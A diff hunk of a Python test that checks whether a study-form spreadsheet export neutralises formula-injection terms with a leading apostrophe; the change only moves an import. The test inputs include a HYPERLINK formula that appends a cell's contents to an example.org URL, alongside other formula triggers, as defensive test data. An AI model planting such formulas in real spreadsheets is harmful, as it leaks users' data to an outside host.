@@ -340,7 +340,7 @@ def test_wic_form_fill_reload_export_score(browser, downloads: Path, site: tuple
 def test_study_form_export_neutralises_formulas(browser, site) -> None:
     """Terms that a spreadsheet would run as formulas are exported with the leading apostrophe (the sheets'
     neutralisation), and the sheet reader gives them back as written."""
-    from biosem.agreement.studies import FORMULA_TRIGGERS, read_sheet
+    from biosem.agreement.sheets import FORMULA_TRIGGERS, read_sheet
 
     terms = ['=HYPERLINK("http://example.org/?"&A1,"click")', "+1", "-ase", "@SUM(A1)", "\tx", "\rx", "'=q", "plain"]
     sheet = pd.DataFrame(
